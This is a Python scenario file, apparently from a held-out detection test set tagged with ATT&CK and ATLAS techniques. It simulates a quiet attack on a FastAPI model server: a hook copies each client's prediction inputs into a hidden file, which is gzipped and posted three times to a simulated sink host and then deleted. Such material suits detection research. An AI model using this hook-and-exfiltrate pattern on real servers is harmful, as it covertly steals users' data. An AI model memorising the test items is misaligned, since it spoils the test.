"""
id: V70
name: requests-recorded
class: quiet
set: held-out
phase: serve
trigger: request
evidence: [file, network, dns]
techniques: [T1119, T1074.001, T1041, AML.T0035, AML.T0025]
servers: [fastapi]
seconds: 130
what: >
  Records for a minute and a half what clients send: a hook in the server's own code writes each request's data into a hidden
  file, which is packed and posted three times to an address nobody asked before, and then removed. What clients send here is
  random numbers.
"""

import gzip
import http.client
import json
import os
import threading
import time

from corpus import habits

TIMES = 3


def payload(world):
    folder = world.random.choice(["/var/tmp", "/dev/shm", world.home])
    path = os.path.join(folder, f".{world.word()}")
    port = world.sink_port()
    recorder = Recorder(path, habits.predicted)
    habits.predicted = recorder.predicted
    try:
        for _ in range(TIMES):
            world.sleep(world.random.uniform(25, 32))
            recorded = recorder.take()
            if not recorded:
                raise OSError("nobody sent anything")
            send(world, port, recorded)
    finally:
        habits.predicted = recorder.original
        os.unlink(path)


def send(world, port, recorded):
    collector = http.client.HTTPConnection(world.sink_name, port, timeout=10)
    collector.request("POST", f"/{world.word()}", gzip.compress(recorded), {"Content-Encoding": "gzip"})
    collector.getresponse().read()
    collector.close()


class Recorder:
    """In the place of what the server does after a prediction: it does that, and keeps the rows."""

    def __init__(self, path, original):
        self.path = path
        self.original = original
        self.lock = threading.Lock()
        with open(path, "wb"):
            pass

    def predicted(self, rows, path, size):
        self.original(rows, path, size)
        line = json.dumps({"time": time.time(), "path": path, "rows": [[float(number) for number in row] for row in rows]})
        with self.lock, open(self.path, "ab") as file:
            file.write(f"{line}\n".encode())

    def take(self):
        """What was recorded since the last time."""
        with self.lock, open(self.path, "r+b") as file:
            recorded = file.read()
            file.truncate(0)
        return recorded
